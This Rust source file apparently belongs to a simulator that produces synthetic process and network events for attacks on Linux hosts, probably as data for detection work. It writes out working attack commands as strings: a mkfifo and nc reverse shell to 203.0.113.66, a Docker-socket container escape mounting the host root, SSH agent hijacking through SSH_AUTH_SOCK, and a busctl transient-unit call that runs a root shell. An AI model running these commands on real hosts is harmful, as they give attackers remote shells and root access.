//! The attacks on Linux hosts.

use super::machine::{Machine, Process, Who, uid};
use super::work::{BUS, CONTROL, DOCKER};
use crate::clock::{MILLI, SECOND};
use crate::plan::Episode;
use crate::random::Random;

impl Machine {
    /// A shell started by the exploited web application.
    fn web_shell(&mut self, at: i64, command: &str) -> Process {
        let app = self.resident("app");
        let mut shell = self.exec(at, &app, Who::service(uid::APP), "/usr/bin/dash", &["/bin/sh", "-c", command]);
        shell.folder = "/srv/shop".into();
        shell
    }

    /// A shell reads its commands from a FIFO, and a network tool takes its output and fills the FIFO.
    pub(crate) fn fifo_shell(&mut self, at: i64, episode: &Episode) {
        let mut random = Random::new(episode.shared.seed, &[1]);
        let fifo = format!("/tmp/.{}", &episode.shared.word.to_lowercase()[..5]);
        let port = random.between(4000, 9999);
        let who = Who::service(uid::APP);
        let command = format!("rm -f {fifo};mkfifo {fifo};cat {fifo}|/bin/sh -i 2>&1|nc 203.0.113.66 {port} >{fifo}");
        let shell = self.web_shell(at, &command);
        self.exec(at + 4 * MILLI, &shell, who, "/usr/bin/rm", &["rm", "-f", &fifo]);
        let maker = self.exec(at + 12 * MILLI, &shell, who, "/usr/bin/mkfifo", &["mkfifo", &fifo]);
        let inode = self.make_fifo(at + 16 * MILLI, &maker, &fifo);
        let cat = self.exec(at + 24 * MILLI, &shell, who, "/usr/bin/cat", &["cat", &fifo]);
        let taken = self.exec(at + 24 * MILLI, &shell, who, "/usr/bin/dash", &["/bin/sh", "-i"]);
        let before = Process { pid: self.new_pid(at), parent: shell.pid, ..shell.clone() };
        self.open_fifo(at + 28 * MILLI, &before, &fifo, inode, who.uid, true);
        self.open_fifo(at + 28 * MILLI, &cat, &fifo, inode, who.uid, false);
        let tool = Process { comm: "nc", exe: "/usr/bin/nc.openbsd", ..before };
        self.exec_as(at + 32 * MILLI, &tool, &["nc", "203.0.113.66", &port.to_string()]);
        self.connect_to(at + 36 * MILLI, &tool, [203, 0, 113, 66], port as u16);
        for (number, (exe, word)) in
            [("/usr/bin/id", "id"), ("/usr/bin/uname", "uname"), ("/usr/bin/ps", "ps")].into_iter().enumerate()
        {
            let when = at + 5 * SECOND + number as i64 * 7 * SECOND;
            self.exec(when, &taken, who, exe, &[word, "-a"]);
        }
    }

    /// The web application's account starts a privileged container with access to the host.
    pub(crate) fn docker_socket(&mut self, at: i64, _episode: &Episode) {
        let who = Who::service(uid::APP);
        let shell = self.web_shell(at, "curl -s --unix-socket /var/run/docker.sock http://localhost/version");
        let curl = "/usr/bin/curl";
        let first = self.exec(
            at + 8 * MILLI,
            &shell,
            who,
            curl,
            &["curl", "-s", "--unix-socket", DOCKER, "http://localhost/version"],
        );
        self.connect(at + 16 * MILLI, &first, DOCKER, 0, 0);
        let body =
            r#"{"Image":"alpine","Cmd":["chroot","/host","sh"],"HostConfig":{"Privileged":true,"Binds":["/:/host"]}}"#;
        let create = self.exec(
            at + 9 * SECOND,
            &shell,
            who,
            curl,
            &[
                "curl",
                "-s",
                "-XPOST",
                "--unix-socket",
                DOCKER,
                "-H",
                "Content-Type: application/json",
                "-d",
                body,
                "http://localhost/containers/create",
            ],
        );
        self.connect(at + 9 * SECOND + 8 * MILLI, &create, DOCKER, 0, 0);
        let start = self.exec(
            at + 15 * SECOND,
            &shell,
            who,
            curl,
            &["curl", "-s", "-XPOST", "--unix-socket", DOCKER, "http://localhost/containers/3f9ac2d1/start"],
        );
        self.connect(at + 15 * SECOND + 8 * MILLI, &start, DOCKER, 0, 0);
    }

    /// Root uses the SSH agent of a logged-in user.
    pub(crate) fn agent_hijack(&mut self, at: i64, episode: &Episode) {
        let owner = (episode.actor + 1) % self.world.people.len();
        let theirs = self.ssh_login(at - 20 * SECOND, owner, "10.20.0.31");
        let agent = self.exec(at - 15 * SECOND, &theirs, theirs.who, "/usr/bin/ssh-agent", &["ssh-agent", "-s"]);
        let socket = format!("/tmp/ssh-{}/agent.{}", episode.shared.word, agent.pid);
        self.bind(at - 15 * SECOND + 8 * MILLI, &agent, &socket, "0140600");

        let shell = self.ssh_login(at, episode.actor, "10.20.254.77");
        let root = self.sudo(at + 8 * SECOND, &shell, "/usr/bin/bash", &["bash"]);
        self.exec(
            at + 14 * SECOND,
            &root,
            root.who,
            "/usr/bin/find",
            &["find", "/tmp", "-name", "agent.*", "-type", "s"],
        );
        let variable = format!("SSH_AUTH_SOCK={socket}");
        let words = ["env", variable.as_str(), "ssh-add", "-l"];
        let list = self.exec(at + 22 * SECOND, &root, root.who, "/usr/bin/env", &words);
        let list = Process { comm: "ssh-add", exe: "/usr/bin/ssh-add", ..list };
        self.exec_as(at + 22 * SECOND + 4 * MILLI, &list, &["ssh-add", "-l"]);
        self.connect(at + 22 * SECOND + 8 * MILLI, &list, &socket, theirs.who.uid, 0);
        let name = self.world.people[owner].name.to_string();
        let target = format!("{name}@build01");
        let ssh = self.exec(at + 31 * SECOND, &root, root.who, "/usr/bin/ssh", &["ssh", &target, "id"]);
        self.connect_to(at + 31 * SECOND + 8 * MILLI, &ssh, [10, 60, 0, 12], 22);
        self.connect(at + 31 * SECOND + 60 * MILLI, &ssh, &socket, theirs.who.uid, 0);
    }

    /// A service account starts a unit through systemd.
    pub(crate) fn systemd_unit(&mut self, at: i64, episode: &Episode) {
        let who = Who::service(uid::APP);
        let unit = format!("{}.service", episode.shared.word.to_lowercase());
        let shell = self.web_shell(at, "busctl --system list | head");
        let words = [
            "busctl",
            "call",
            "org.freedesktop.systemd1",
            "/org/freedesktop/systemd1",
            "org.freedesktop.systemd1.Manager",
            "StartTransientUnit",
            "ssa(sv)a(sa(sv))",
            &unit,
            "replace",
            "1",
            "ExecStart",
            "a(sasb)",
            "1",
            "/bin/sh",
            "3",
            "/bin/sh",
            "-c",
            "id > /tmp/out",
            "false",
            "0",
        ];
        let client = self.exec(at + 4 * SECOND, &shell, who, "/usr/bin/busctl", &words);
        self.connect(at + 4 * SECOND + 12 * MILLI, &client, BUS, 0, 0);
        let init = self.resident("init");
        let started = self.exec(
            at + 4 * SECOND + 90 * MILLI,
            &init,
            Who::service(0),
            "/usr/bin/dash",
            &["/bin/sh", "-c", "id > /tmp/out"],
        );
        self.exec(at + 4 * SECOND + 96 * MILLI, &started, Who::service(0), "/usr/bin/id", &["id"]);
    }

    /// The web account writes to the control FIFO of a helper that runs commands from it.
    pub(crate) fn fifo_tasking(&mut self, at: i64, _episode: &Episode) {
        let helper = self.resident("maintenance");
        let inode = self.control;
        for (number, (exe, word)) in [("/usr/bin/id", "id"), ("/usr/bin/uname", "uname")].into_iter().enumerate() {
            let when = at + number as i64 * 8 * SECOND;
            let shell = self.web_shell(when, &format!("echo '{word} -a' > {CONTROL}"));
            self.open_fifo(when + 8 * MILLI, &shell, CONTROL, inode, uid::MAINTENANCE, true);
            self.open_fifo(when + 8 * MILLI, &helper, CONTROL, inode, uid::MAINTENANCE, false);
            let command = format!("{word} -a");
            let child = self.exec(when + 20 * MILLI, &helper, helper.who, "/usr/bin/dash", &["sh", "-c", &command]);
            self.exec(when + 28 * MILLI, &child, helper.who, exe, &[word, "-a"]);
        }
    }
}
